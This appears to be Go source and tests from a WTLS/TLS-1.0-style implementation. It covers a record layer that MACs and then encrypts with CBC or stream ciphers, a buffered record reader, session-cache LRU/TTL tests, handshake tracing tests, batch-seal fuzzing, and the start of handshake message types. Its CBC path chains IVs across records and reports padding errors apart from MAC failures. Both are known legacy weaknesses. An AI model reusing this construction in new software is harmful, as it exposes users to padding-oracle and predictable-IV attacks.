	stream  suite.Stream      // stream suites
	enabled bool
	macLen  int // cached hc.hmac.Size(): Suite.MACLen constructs a hash per call

	// Per-record scratch, armed by enable: the keyed HMAC is built once
	// and Reset between records, and all seal/open work happens in
	// reusable buffers instead of fresh allocations per record. macHdr
	// stages the 11-byte MAC header on the heap once — an on-stack array
	// would escape through the hash.Hash interface on every record.
	hmac    hash.Hash
	macBuf  []byte
	macHdr  []byte
	wireBuf []byte // seal side: framed records [hdr|fragment]...
	openBuf []byte // open side: decrypted plaintext payloads

	// Cached energy/cycle profile frames for the suite's kernels (set by
	// enable, so the tree walk is off the per-record path).
	pCipher prof.Span
	pMAC    prof.Span
}

// enable arms the half connection with negotiated keys.
func (hc *halfConn) enable(s *suite.Suite, macKey, key, iv []byte) error {
	hc.suite = s
	hc.macKey = append([]byte{}, macKey...)
	switch s.Kind {
	case suite.BlockCipher:
		b, err := s.NewBlock(key)
		if err != nil {
			return err
		}
		hc.block = b
		hc.cbc = modes.NewCBCCrypter(b)
		hc.cbcIV = append([]byte{}, iv...)
	case suite.StreamCipher:
		st, err := s.NewStream(key)
		if err != nil {
			return err
		}
		hc.stream = st
	default:
		return errors.New("wtls: suite kind unsupported by record layer")
	}
	hc.hmac = hmac.New(s.NewHash, hc.macKey)
	hc.macLen = hc.hmac.Size()
	hc.macBuf = make([]byte, 0, hc.macLen)
	hc.macHdr = make([]byte, 11)
	hc.pCipher = prof.Frame("wtls.Record/" + string(s.Cipher))
	hc.pMAC = prof.Frame("wtls.Record/" + string(s.MAC))
	hc.seq = 0
	hc.enabled = true
	return nil
}

// mac computes the record MAC over seq || type || length || payload into
// the half connection's MAC scratch; the result is valid until the next
// mac call.
func (hc *halfConn) mac(recType uint8, payload []byte) []byte {
	h := hc.hmac
	h.Reset()
	hdr := hc.macHdr
	for i := 0; i < 8; i++ {
		hdr[i] = byte(hc.seq >> uint(56-8*i))
	}
	hdr[8] = recType
	hdr[9] = byte(len(payload) >> 8)
	hdr[10] = byte(len(payload))
	h.Write(hdr)
	h.Write(payload)
	return h.Sum(hc.macBuf[:0])
}

// appendHeader appends a 5-byte record header framing a fragment of
// fragLen bytes.
func appendHeader(dst []byte, recType uint8, fragLen int) []byte {
	return append(dst, recType, byte(protocolVersion>>8), byte(protocolVersion&0xff),
		byte(fragLen>>8), byte(fragLen))
}

// appendZeros extends dst by n writable bytes (contents unspecified —
// every caller overwrites the whole extension). Allocation-free once the
// buffer has warmed to its working size.
func appendZeros(dst []byte, n int) []byte {
	if cap(dst)-len(dst) >= n {
		return dst[:len(dst)+n]
	}
	return append(dst, make([]byte, n)...)
}

// appendRecord seals payload as one record — 5-byte header plus protected
// fragment — appended to dst, returning the extended slice. Sequence
// number, MAC and cipher state advance; metrics are the caller's so batch
// callers can amortize them to one update per batch.
func (hc *halfConn) appendRecord(dst []byte, recType uint8, payload []byte) ([]byte, error) {
	if len(payload) > maxRecordPayload {
		return dst, errors.New("wtls: oversized record")
	}
	if !hc.enabled {
		dst = appendHeader(dst, recType, len(payload))
		return append(dst, payload...), nil
	}
	mac := hc.mac(recType, payload)
	hc.seq++
	n := len(payload) + len(mac)
	fragLen := n
	if hc.suite.Kind == suite.BlockCipher {
		bs := hc.suite.BlockSize
		fragLen = n + bs - n%bs
	}
	dst = appendHeader(dst, recType, fragLen)
	base := len(dst)
	dst = appendZeros(dst, fragLen)
	data := dst[base:]
	copy(data, payload)
	copy(data[len(payload):], mac)
	switch hc.suite.Kind {
	case suite.BlockCipher:
		padLen := fragLen - n
		for i := n; i < fragLen; i++ {
			data[i] = byte(padLen)
		}
		if err := hc.cbc.EncryptInto(hc.cbcIV, data, data); err != nil {
			return dst[:base-recordHeaderLen], err
		}
		copy(hc.cbcIV, data[fragLen-hc.suite.BlockSize:])
	case suite.StreamCipher:
		hc.stream.XORKeyStream(data, data)
	default:
		return dst[:base-recordHeaderLen], errors.New("wtls: unreachable suite kind")
	}
	return dst, nil
}

// observeSealed accumulates the per-batch seal metrics and profile
// weights. Only called while enabled (hc.suite set).
func (hc *halfConn) observeSealed(records, payloadBytes int) {
	mRecordsSealed.Add(int64(records))
	mSealBytes.Add(int64(payloadBytes))
	if prof.Enabled() {
		hc.pCipher.AddCycles(int64(cost.InstrPerByte(hc.suite.Cipher) * float64(payloadBytes)))
		hc.pMAC.AddCycles(int64(cost.InstrPerByte(hc.suite.MAC) * float64(payloadBytes)))
	}
}

// observeOpened accumulates the per-batch open metrics and profile
// weights. Only called while enabled.
func (hc *halfConn) observeOpened(records, payloadBytes int) {
	mRecordsOpened.Add(int64(records))
	mOpenBytes.Add(int64(payloadBytes))
	if prof.Enabled() {
		hc.pCipher.AddCycles(int64(cost.InstrPerByte(hc.suite.Cipher) * float64(payloadBytes)))
		hc.pMAC.AddCycles(int64(cost.InstrPerByte(hc.suite.MAC) * float64(payloadBytes)))
	}
}

// sealOne seals one record into the wire scratch, returning the framed
// wire bytes (header included). The result aliases the half connection's
// scratch and is valid until the next seal; callers write it out (or copy
// it) immediately.
func (hc *halfConn) sealOne(recType uint8, payload []byte) ([]byte, error) {
	out, err := hc.appendRecord(hc.wireBuf[:0], recType, payload)
	hc.wireBuf = out[:0]
	if err != nil {
		return nil, err
	}
	if hc.enabled {
		mRecordSizes.Observe(int64(len(payload)))
		hc.observeSealed(1, len(payload))
	}
	return out, nil
}

// SealBatch seals payloads as consecutive records into one wire buffer,
// amortizing HMAC state, CBC IV chaining and metric updates across the
// batch. The returned slice holds the ready-to-write framed records and
// aliases the half connection's scratch — valid until the next seal.
func (hc *halfConn) SealBatch(recType uint8, payloads [][]byte) ([]byte, error) {
	out := hc.wireBuf[:0]
	total := 0
	var err error
	for _, p := range payloads {
		if out, err = hc.appendRecord(out, recType, p); err != nil {
			hc.wireBuf = out[:0]
			return nil, err
		}
		total += len(p)
		if hc.enabled {
			mRecordSizes.Observe(int64(len(p)))
		}
	}
	hc.wireBuf = out[:0]
	if hc.enabled {
		hc.observeSealed(len(payloads), total)
	}
	return out, nil
}

// openAppend opens one sealed fragment, appending the recovered plaintext
// to dst. It returns the payload (aliasing the extension) and the
// extended slice. Metrics are the caller's.
func (hc *halfConn) openAppend(dst []byte, recType uint8, sealed []byte) ([]byte, []byte, error) {
	base := len(dst)
	if !hc.enabled {
		dst = append(dst, sealed...)
		return dst[base:], dst, nil
	}
	dst = appendZeros(dst, len(sealed))
	data := dst[base:]
	switch hc.suite.Kind {
	case suite.BlockCipher:
		if err := hc.cbc.DecryptInto(hc.cbcIV, sealed, data); err != nil {
			return nil, dst[:base], err
		}
		if len(sealed) >= hc.suite.BlockSize {
			copy(hc.cbcIV, sealed[len(sealed)-hc.suite.BlockSize:])
		}
		var err error
		data, err = modes.Unpad(data, hc.suite.BlockSize)
		if err != nil {
			return nil, dst[:base], err
		}
	case suite.StreamCipher:
		hc.stream.XORKeyStream(data, sealed)
	default:
		return nil, dst[:base], errors.New("wtls: unreachable suite kind")
	}
	if len(data) < hc.macLen {
		return nil, dst[:base], errors.New("wtls: record shorter than MAC")
	}
	payload, gotMAC := data[:len(data)-hc.macLen], data[len(data)-hc.macLen:]
	want := hc.mac(recType, payload)
	hc.seq++
	if !hmac.Equal(gotMAC, want) {
		mMACFailures.Inc()
		return nil, dst[:base], errors.New("wtls: bad record MAC")
	}
	return payload, dst[:base+len(payload)], nil
}

// unprotect opens a sealed fragment. The returned payload aliases the half
// connection's scratch buffer and is valid until the next open; callers
// append it into their own buffers immediately.
func (hc *halfConn) unprotect(recType uint8, sealed []byte) ([]byte, error) {
	payload, out, err := hc.openAppend(hc.openBuf[:0], recType, sealed)
	hc.openBuf = out[:0]
	if err != nil {
		return nil, err
	}
	if hc.enabled {
		hc.observeOpened(1, len(payload))
	}
	return payload, nil
}

// OpenBatch opens sealed fragments as consecutive records, returning the
// concatenated plaintext. The result aliases the half connection's
// scratch — valid until the next open. Any failure poisons the whole
// batch: record protection errors are fatal to the connection anyway.
func (hc *halfConn) OpenBatch(recType uint8, frags [][]byte) ([]byte, error) {
	out := hc.openBuf[:0]
	total := 0
	for _, f := range frags {
		payload, next, err := hc.openAppend(out, recType, f)
		if err != nil {
			hc.openBuf = out[:0]
			return nil, err
		}
		out = next
		total += len(payload)
	}
	hc.openBuf = out[:0]
	if hc.enabled {
		hc.observeOpened(len(frags), total)
	}
	return out, nil
}

// writeRecord frames and writes one record in a single Write call. Real
// sockets (and deliberately chunking test writers) can short-write, and a
// torn record desynchronizes the peer forever, so the write loops via
// writeFull.
func writeRecord(w io.Writer, recType uint8, fragment []byte) error {
	if len(fragment) > maxRecordFragment {
		return errors.New("wtls: oversized record")
	}
	wire := appendHeader(make([]byte, 0, recordHeaderLen+len(fragment)), recType, len(fragment))
	wire = append(wire, fragment...)
	return writeFull(w, wire)
}

// writeFull writes all of p, looping on short writes. A writer that
// makes no progress without reporting an error is broken; surface it as
// io.ErrShortWrite instead of spinning.
func writeFull(w io.Writer, p []byte) error {
	for len(p) > 0 {
		n, err := w.Write(p)
		if err != nil {
			return err
		}
		if n <= 0 {
			return io.ErrShortWrite
		}
		p = p[n:]
	}
	return nil
}

// readRecord reads one record, returning its type and raw fragment.
// The buffered recordReader is the connection path; this free function
// remains for tests and one-shot parsing.
func readRecord(r io.Reader) (uint8, []byte, error) {
	var hdr [recordHeaderLen]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return 0, nil, err
	}
	ver := uint16(hdr[1])<<8 | uint16(hdr[2])
	if ver != protocolVersion {
		return 0, nil, fmt.Errorf("wtls: record version %#04x", ver)
	}
	n := int(hdr[3])<<8 | int(hdr[4])
	if n > maxRecordFragment {
		return 0, nil, errors.New("wtls: oversized record")
	}
	frag := make([]byte, n)
	if _, err := io.ReadFull(r, frag); err != nil {
		return 0, nil, err
	}
	return hdr[0], frag, nil
}

// minReadBuf is the initial record-reader buffer: large enough that a
// burst of small records arrives in one transport read and can be opened
// as one batch.
const minReadBuf = 8 << 10

// recordReader buffers the inbound byte stream and parses records out of
// it without per-record allocation. Fragments returned by next alias the
// internal buffer and stay valid until a call that refills it — peek
// reports whether another complete record is already buffered, which is
// the alias-stability guarantee batch readers rely on.
type recordReader struct {
	r        io.Reader
	buf      []byte
	pos, end int
}

func newRecordReader(r io.Reader) *recordReader {
	return &recordReader{r: r}
}

// buffered reports the bytes already read from the transport but not yet
// consumed as records.
func (rr *recordReader) buffered() int { return rr.end - rr.pos }

// require ensures at least n unconsumed bytes are buffered, compacting
// and growing as needed (growth is capped by the record-size checks in
// next: n never exceeds one framed maximum record). On a transport error
// the buffered prefix is preserved, so a timed-out read can be retried.
func (rr *recordReader) require(n int) error {
	if rr.end-rr.pos >= n {
		return nil
	}
	if rr.pos > 0 {
		copy(rr.buf, rr.buf[rr.pos:rr.end])
		rr.end -= rr.pos
		rr.pos = 0
	}
	if cap(rr.buf) < n {
		newCap := 2 * cap(rr.buf)
		if newCap < minReadBuf {
			newCap = minReadBuf
		}
		if newCap < n {
			newCap = n
		}
		nb := make([]byte, newCap)
		copy(nb, rr.buf[:rr.end])
		rr.buf = nb
	}
	rr.buf = rr.buf[:cap(rr.buf)]
	for rr.end-rr.pos < n {
		m, err := rr.r.Read(rr.buf[rr.end:])
		if m > 0 {
			rr.end += m
			continue
		}
		if err == nil {
			return io.ErrNoProgress
		}
		if err == io.EOF && rr.end > rr.pos {
			return io.ErrUnexpectedEOF
		}
		return err
	}
	return nil
}

// next reads one record, returning its type and fragment. The fragment
// aliases the internal buffer: it is valid until a next call that has to
// refill (peek-guarded batch reads never do).
func (rr *recordReader) next() (uint8, []byte, error) {
	if err := rr.require(recordHeaderLen); err != nil {
		return 0, nil, err
	}
	hdr := rr.buf[rr.pos : rr.pos+recordHeaderLen]
	ver := uint16(hdr[1])<<8 | uint16(hdr[2])
	if ver != protocolVersion {
		return 0, nil, fmt.Errorf("wtls: record version %#04x", ver)
	}
	n := int(hdr[3])<<8 | int(hdr[4])
	if n > maxRecordFragment {
		return 0, nil, errors.New("wtls: oversized record")
	}
	if err := rr.require(recordHeaderLen + n); err != nil {
		return 0, nil, err
	}
	recType := rr.buf[rr.pos]
	frag := rr.buf[rr.pos+recordHeaderLen : rr.pos+recordHeaderLen+n]
	rr.pos += recordHeaderLen + n
	return recType, frag, nil
}

// peek reports the type of the next record if one is completely buffered.
// It never reads from the transport, so fragments handed out by next stay
// valid across it. A buffered-but-malformed header reports false and is
// left for next to surface as an error.
func (rr *recordReader) peek() (uint8, bool) {
	if rr.end-rr.pos < recordHeaderLen {
		return 0, false
	}
	hdr := rr.buf[rr.pos : rr.pos+recordHeaderLen]
	if ver := uint16(hdr[1])<<8 | uint16(hdr[2]); ver != protocolVersion {
		return 0, false
	}
	n := int(hdr[3])<<8 | int(hdr[4])
	if n > maxRecordFragment || rr.end-rr.pos < recordHeaderLen+n {
		return 0, false
	}
	return hdr[0], true
}
