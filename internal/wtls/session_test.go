package wtls

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/obs"
)

func testSession(id byte) *session {
	return &session{id: []byte{id}, master: []byte{id, id}, suiteID: 0x000A}
}

// sameShardKeys returns n distinct keys hashing to one shard.
func sameShardKeys(sc *SessionCache, n int) []string {
	want := sc.shard("seed-key")
	keys := []string{"seed-key"}
	for i := 0; len(keys) < n; i++ {
		k := fmt.Sprintf("key-%d", i)
		if sc.shard(k) == want {
			keys = append(keys, k)
		}
	}
	return keys
}

func TestSessionCachePutGetOverwrite(t *testing.T) {
	sc := NewSessionCache()
	if got := sc.get("missing"); got != nil {
		t.Fatal("get on empty cache returned a session")
	}
	sc.put("a", testSession(1))
	sc.put("b", testSession(2))
	if got := sc.get("a"); got == nil || got.id[0] != 1 {
		t.Fatalf("get(a) = %v", got)
	}
	sc.put("a", testSession(3))
	if got := sc.get("a"); got == nil || got.id[0] != 3 {
		t.Fatal("overwrite did not replace the session")
	}
	if sc.Size() != 2 || sc.Len() != 2 {
		t.Fatalf("Size=%d Len=%d, want 2", sc.Size(), sc.Len())
	}
}

func TestSessionCacheLRUEviction(t *testing.T) {
	// Total cap 2*sessionShards → per-shard LRU depth 2.
	sc := NewSessionCacheSized(2*sessionShards, 0)
	keys := sameShardKeys(sc, 4)

	sc.put(keys[0], testSession(0))
	sc.put(keys[1], testSession(1))
	sc.put(keys[2], testSession(2)) // evicts keys[0], the least recently used
	if sc.get(keys[0]) != nil {
		t.Fatal("LRU entry survived past the shard cap")
	}
	if sc.get(keys[1]) == nil || sc.get(keys[2]) == nil {
		t.Fatal("recently used entries were evicted")
	}

	// get refreshes recency: keys[1] was just touched, so inserting
	// another key evicts keys[2].
	if sc.get(keys[1]) == nil {
		t.Fatal("keys[1] missing")
	}
	sc.put(keys[3], testSession(3))
	if sc.get(keys[2]) != nil {
		t.Fatal("LRU eviction ignored get recency")
	}
	if sc.get(keys[1]) == nil || sc.get(keys[3]) == nil {
		t.Fatal("wrong entry evicted")
	}
}

func TestSessionCacheTTL(t *testing.T) {
	now := time.Unix(1000, 0)
	sc := NewSessionCacheSized(0, time.Minute)
	sc.now = func() time.Time { return now }

	sc.put("k", testSession(1))
	now = now.Add(59 * time.Second)
	if sc.get("k") == nil {
		t.Fatal("entry expired before its TTL")
	}
	// get does not extend the TTL — savedAt is the put time.
	now = now.Add(2 * time.Second)
	if sc.get("k") != nil {
		t.Fatal("entry survived past its TTL")
	}
	if sc.Size() != 0 {
		t.Fatalf("expired entry still counted: Size=%d", sc.Size())
	}
	// A fresh put under the same key restarts the clock.
	sc.put("k", testSession(2))
	if sc.get("k") == nil {
		t.Fatal("re-put entry missing")
	}
}

func TestSessionCacheEvictionMetric(t *testing.T) {
	obs.Default.SetEnabled(true)
	defer obs.Default.SetEnabled(false)
	before := mSessionEvictions.Value()

	sc := NewSessionCacheSized(sessionShards, 0) // per-shard depth 1
	keys := sameShardKeys(sc, 3)
	sc.put(keys[0], testSession(0))
	sc.put(keys[1], testSession(1)) // LRU-evicts keys[0]

	ttl := NewSessionCacheSized(0, time.Millisecond)
	now := time.Unix(0, 0)
	ttl.now = func() time.Time { return now }
	ttl.put("t", testSession(2))
	now = now.Add(time.Second)
	ttl.get("t") // TTL-evicts

	if got := mSessionEvictions.Value() - before; got != 2 {
		t.Fatalf("eviction counter moved by %d, want 2", got)
	}
}

func TestSessionCacheConcurrent(t *testing.T) {
	sc := NewSessionCacheSized(256, 50*time.Millisecond)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				k := fmt.Sprintf("conn-%d", (g*31+i)%97)
				if i%3 == 0 {
					sc.put(k, testSession(byte(i)))
				} else {
					sc.get(k)
				}
			}
		}(g)
	}
	wg.Wait()
	if sc.Size() > 256+sessionShards {
		t.Fatalf("cache overshot its cap: %d", sc.Size())
	}
}

// TestSessionCacheResumptionSemantics: the sharded cache still drives the
// abbreviated handshake end to end, including a Size that tracks both
// sides' entries.
func TestSessionCacheResumptionSemantics(t *testing.T) {
	clientCache := NewSessionCacheSized(1024, time.Hour)
	serverCache := NewSessionCacheSized(1024, time.Hour)
	run := func() *Conn {
		scfg := serverConfig(t)
		scfg.SessionCache = serverCache
		ccfg := clientConfig(t)
		ccfg.SessionCache = clientCache
		c, _, _ := handshakePair(t, ccfg, scfg)
		return c
	}
	if c := run(); c.State().Resumed {
		t.Fatal("first handshake resumed")
	}
	if clientCache.Size() != 1 || serverCache.Size() != 1 {
		t.Fatalf("cache sizes after full handshake: client=%d server=%d, want 1/1",
			clientCache.Size(), serverCache.Size())
	}
	if c := run(); !c.State().Resumed {
		t.Fatal("second handshake did not resume")
	}
}
