package wtls

import (
	"testing"

	"repro/internal/obs"
)

// armDTrace arms the process-wide distributed tracer for one test and
// restores the disarmed default afterwards.
func armDTrace(t *testing.T) {
	t.Helper()
	obs.DefaultDTracer.SetEnabled(true)
	obs.DefaultDTracer.SetProc("wtls-test")
	obs.DefaultDTracer.SetSampleN(1)
	t.Cleanup(func() { obs.DefaultDTracer.SetEnabled(false) })
}

// traceSpans filters the shared tracer's ring down to one trace.
func traceSpans(trace uint64) []obs.SpanRec {
	var out []obs.SpanRec
	for _, r := range obs.DefaultDTracer.Spans() {
		if r.Trace == trace {
			out = append(out, r)
		}
	}
	return out
}

// phaseChildren returns the recorded handshake span named want and the
// set of its phase-event names.
func phaseChildren(t *testing.T, spans []obs.SpanRec, want string) (obs.SpanRec, map[string]bool) {
	t.Helper()
	var hs obs.SpanRec
	found := false
	for _, r := range spans {
		if r.Name == want {
			hs = r
			found = true
		}
	}
	if !found {
		t.Fatalf("no %s span in %+v", want, spans)
	}
	phases := map[string]bool{}
	for _, r := range spans {
		if r.Parent == hs.Span {
			phases[r.Name] = true
		}
	}
	return hs, phases
}

// TestHandshakeTraceClient: the client attaches its parent before the
// handshake, so the buffered phases flush as hello/key_exchange/finished
// spans under a handshake_client child the moment Handshake returns.
func TestHandshakeTraceClient(t *testing.T) {
	armDTrace(t)
	trace := obs.TraceID(77, 1)
	root := obs.DefaultDTracer.Root(trace, "test", "session")
	if root == nil {
		t.Fatal("armed tracer returned nil root")
	}

	cp, sp := bufferedPipe()
	client := Client(cp, clientConfig(t))
	server := Server(sp, serverConfig(t))
	client.SetTraceParent(root)
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	if err := client.Handshake(); err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	if err := <-srvErr; err != nil {
		t.Fatalf("server handshake: %v", err)
	}
	root.End()

	spans := traceSpans(trace)
	hs, phases := phaseChildren(t, spans, "handshake_client")
	if hs.Parent != root.ID() {
		t.Fatalf("handshake span parent %x, want root %x", hs.Parent, root.ID())
	}
	for _, p := range []string{"hello", "key_exchange", "finished"} {
		if !phases[p] {
			t.Fatalf("missing phase %q in %v", p, phases)
		}
	}
}

// TestHandshakeTraceServerLateAttach: the gateway only learns the trace
// context after the handshake (first application record), so attaching
// the parent post-handshake must replay the buffered phases.
func TestHandshakeTraceServerLateAttach(t *testing.T) {
	armDTrace(t)
	trace := obs.TraceID(77, 2)

	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	_ = client
	if got := traceSpans(trace); len(got) != 0 {
		t.Fatalf("spans recorded before any parent attached: %+v", got)
	}

	root := obs.DefaultDTracer.RootAt(trace, 0x1234, "gateway", "session", 0)
	server.SetTraceParent(root)
	root.End()

	spans := traceSpans(trace)
	hs, phases := phaseChildren(t, spans, "handshake_server")
	if hs.Parent != root.ID() {
		t.Fatalf("handshake span parent %x, want root %x", hs.Parent, root.ID())
	}
	for _, p := range []string{"hello", "key_exchange", "finished"} {
		if !phases[p] {
			t.Fatalf("missing phase %q in %v", p, phases)
		}
	}
	// A second attach must not duplicate the handshake spans.
	before := len(traceSpans(trace))
	server.SetTraceParent(root)
	if got := len(traceSpans(trace)); got != before {
		t.Fatalf("re-attach duplicated spans: %d -> %d", before, got)
	}
}

// TestRecordBatchSpans: with a parent attached, each Write emits a
// record_batch event carrying the batch byte count.
func TestRecordBatchSpans(t *testing.T) {
	armDTrace(t)
	trace := obs.TraceID(77, 3)
	root := obs.DefaultDTracer.Root(trace, "test", "session")

	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	client.SetTraceParent(root)

	msg := []byte("batched application bytes")
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		_, err := server.Read(buf)
		done <- err
	}()
	if _, err := client.Write(msg); err != nil {
		t.Fatalf("write: %v", err)
	}
	if err := <-done; err != nil {
		t.Fatalf("server read: %v", err)
	}
	root.End()

	var batch *obs.SpanRec
	for _, r := range traceSpans(trace) {
		if r.Name == "record_batch" && r.Proc == "wtls-test" {
			rr := r
			batch = &rr
		}
	}
	if batch == nil {
		t.Fatal("no record_batch span recorded")
	}
	if batch.N <= 0 {
		t.Fatalf("record_batch span lost byte count: %+v", batch)
	}
}

// TestHandshakeDisarmedRecordsNothing pins the zero-cost path: with the
// tracer disarmed, a full handshake leaves the span ring untouched.
func TestHandshakeDisarmedRecordsNothing(t *testing.T) {
	before := len(obs.DefaultDTracer.Spans())
	client, _, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	client.SetTraceParent(nil)
	if got := len(obs.DefaultDTracer.Spans()); got != before {
		t.Fatalf("disarmed handshake recorded spans: %d -> %d", before, got)
	}
}
