package wtls

import (
	"bytes"
	"fmt"
	"sync"
	"testing"

	"repro/internal/suite"
)

// batchSuites covers every bulk suite kind the record layer protects.
func batchSuites(t testing.TB) []uint16 {
	t.Helper()
	var ids []uint16
	for _, s := range suite.All() {
		if s.Kind == suite.BlockCipher || s.Kind == suite.StreamCipher {
			ids = append(ids, s.ID)
		}
	}
	if len(ids) == 0 {
		t.Fatal("no bulk suites registered")
	}
	return ids
}

// splitPayloads derives a deterministic fragment list from data: sizes
// walk the interesting boundaries (empty, one byte, block-unaligned,
// near-max).
func splitPayloads(data []byte) [][]byte {
	sizes := []int{0, 1, 7, 8, 63, 255, 1024}
	var out [][]byte
	for i := 0; len(data) > 0 && i < maxRecordsPerBatch; i++ {
		n := sizes[i%len(sizes)]
		if n > len(data) {
			n = len(data)
		}
		out = append(out, data[:n])
		data = data[n:]
	}
	if len(out) == 0 {
		out = [][]byte{{}}
	}
	return out
}

// TestSealBatchMatchesSequential: for every suite, SealBatch's wire bytes
// must be byte-identical to the concatenation of sequential single-record
// seals from an identically-keyed half connection, and OpenBatch must
// recover the exact plaintext concatenation.
func TestSealBatchMatchesSequential(t *testing.T) {
	data := make([]byte, 4096)
	for i := range data {
		data[i] = byte(i*31 + 7)
	}
	for _, id := range batchSuites(t) {
		s, _ := suite.ByID(id)
		t.Run(s.Name, func(t *testing.T) {
			payloads := splitPayloads(data)

			batchSeal, batchOpen := enabledPair(t, id)
			seqSeal, seqOpen := enabledPair(t, id)

			batchWire, err := batchSeal.SealBatch(recordApplicationData, payloads)
			if err != nil {
				t.Fatal(err)
			}
			batchWire = append([]byte(nil), batchWire...)

			var seqWire []byte
			for _, p := range payloads {
				w, err := seqSeal.sealOne(recordApplicationData, p)
				if err != nil {
					t.Fatal(err)
				}
				seqWire = append(seqWire, w...)
			}
			if !bytes.Equal(batchWire, seqWire) {
				t.Fatalf("SealBatch wire differs from %d sequential seals", len(payloads))
			}

			// Parse the wire back into fragments and open both ways.
			var frags [][]byte
			for off := 0; off < len(batchWire); {
				n := int(batchWire[off+3])<<8 | int(batchWire[off+4])
				frags = append(frags, batchWire[off+recordHeaderLen:off+recordHeaderLen+n])
				off += recordHeaderLen + n
			}
			got, err := batchOpen.OpenBatch(recordApplicationData, frags)
			if err != nil {
				t.Fatal(err)
			}
			var want []byte
			for _, p := range payloads {
				want = append(want, p...)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("OpenBatch plaintext mismatch: got %d bytes, want %d", len(got), len(want))
			}
			var seqGot []byte
			for _, f := range frags {
				p, err := seqOpen.unprotect(recordApplicationData, f)
				if err != nil {
					t.Fatal(err)
				}
				seqGot = append(seqGot, p...)
			}
			if !bytes.Equal(seqGot, want) {
				t.Fatal("sequential unprotect plaintext mismatch")
			}
		})
	}
}

// FuzzSealBatch cross-checks batch and sequential sealing on fuzzer-
// chosen payload splits and suites, then proves the batch opens back to
// the original bytes.
func FuzzSealBatch(f *testing.F) {
	f.Add([]byte("hello world"), uint8(0), uint8(3))
	f.Add(bytes.Repeat([]byte{0xab}, 2048), uint8(1), uint8(8))
	f.Add([]byte{}, uint8(2), uint8(1))
	suites := []uint16{0x0005, 0x0004, 0x000A, 0x002F}
	f.Fuzz(func(t *testing.T, data []byte, suiteSel, nFrags uint8) {
		id := suites[int(suiteSel)%len(suites)]
		n := int(nFrags)%maxRecordsPerBatch + 1

		// Chop data into n fragments (sizes from the data length).
		var payloads [][]byte
		rest := data
		for i := 0; i < n; i++ {
			size := len(rest) / (n - i)
			payloads = append(payloads, rest[:size])
			rest = rest[size:]
		}

		batchSeal, batchOpen := enabledPair(t, id)
		seqSeal, _ := enabledPair(t, id)

		batchWire, err := batchSeal.SealBatch(recordApplicationData, payloads)
		if err != nil {
			t.Fatal(err)
		}
		batchWire = append([]byte(nil), batchWire...)
		var seqWire []byte
		for _, p := range payloads {
			w, err := seqSeal.sealOne(recordApplicationData, p)
			if err != nil {
				t.Fatal(err)
			}
			seqWire = append(seqWire, w...)
		}
		if !bytes.Equal(batchWire, seqWire) {
			t.Fatalf("batch/sequential wire divergence (suite %#04x, %d frags)", id, n)
		}

		var frags [][]byte
		for off := 0; off < len(batchWire); {
			sz := int(batchWire[off+3])<<8 | int(batchWire[off+4])
			frags = append(frags, batchWire[off+recordHeaderLen:off+recordHeaderLen+sz])
			off += recordHeaderLen + sz
		}
		got, err := batchOpen.OpenBatch(recordApplicationData, frags)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, data) {
			t.Fatal("OpenBatch did not recover the original bytes")
		}
	})
}

// TestBatchConcurrentConns hammers the batched Write/Read paths from
// several connections at once (run under -race in CI): each pair pushes
// multi-record payloads both directions while a concurrent writer
// interleaves small records on the same conn.
func TestBatchConcurrentConns(t *testing.T) {
	const (
		pairs    = 4
		writes   = 25
		chunkLen = 3*maxRecordPayload + 517 // 4 records per Write batch
	)
	ccfgs := make([]*Config, pairs)
	scfgs := make([]*Config, pairs)
	for i := range ccfgs {
		ccfgs[i] = clientConfig(t)
		scfgs[i] = serverConfig(t)
		ccfgs[i].Suites = []uint16{[]uint16{0x0005, 0x000A, 0x002F, 0x0004}[i%4]}
	}
	var wg sync.WaitGroup
	for i := 0; i < pairs; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			ccfg, scfg := ccfgs[i], scfgs[i]
			cp, sp := bufferedPipe()
			client := Client(cp, ccfg)
			server := Server(sp, scfg)

			srvDone := make(chan error, 1)
			go func() {
				// Echo everything back, reading through the batch-drain path.
				buf := make([]byte, 64<<10)
				echoed := 0
				want := writes * (chunkLen + len("ping"))
				for echoed < want {
					n, err := server.Read(buf)
					if err != nil {
						srvDone <- fmt.Errorf("server read: %w", err)
						return
					}
					if _, err := server.Write(buf[:n]); err != nil {
						srvDone <- fmt.Errorf("server write: %w", err)
						return
					}
					echoed += n
				}
				srvDone <- nil
			}()

			chunk := bytes.Repeat([]byte{byte(i + 1)}, chunkLen)
			var cw sync.WaitGroup
			cw.Add(2)
			go func() {
				defer cw.Done()
				for j := 0; j < writes; j++ {
					if _, err := client.Write(chunk); err != nil {
						t.Errorf("pair %d large write: %v", i, err)
						return
					}
				}
			}()
			go func() {
				defer cw.Done()
				for j := 0; j < writes; j++ {
					if _, err := client.Write([]byte("ping")); err != nil {
						t.Errorf("pair %d small write: %v", i, err)
						return
					}
				}
			}()

			// Drain the echo concurrently with the writers.
			total := writes * (chunkLen + len("ping"))
			got := 0
			buf := make([]byte, 64<<10)
			for got < total {
				n, err := client.Read(buf)
				if err != nil {
					t.Errorf("pair %d client read: %v", i, err)
					break
				}
				got += n
			}
			cw.Wait()
			if err := <-srvDone; err != nil {
				t.Error(err)
			}
			if got != total {
				t.Errorf("pair %d echoed %d bytes, want %d", i, got, total)
			}
		}(i)
	}
	wg.Wait()
}
