package wtls

import (
	"errors"
	"fmt"
	"math/big"
)

// Protocol version on the wire.
const protocolVersion uint16 = 0x0301

// Handshake message types.
const (
	typeClientHello       uint8 = 1
	typeServerHello       uint8 = 2
	typeCertificate       uint8 = 11
	typeServerKeyExchange uint8 = 12
	typeServerHelloDone   uint8 = 14
	typeClientKeyExchange uint8 = 16
	typeFinished          uint8 = 20
)

// randomLen is the hello random length.
const randomLen = 32

type clientHello struct {
	random    []byte
	sessionID []byte
	suites    []uint16
}

func (m *clientHello) marshal() []byte {
	var b builder
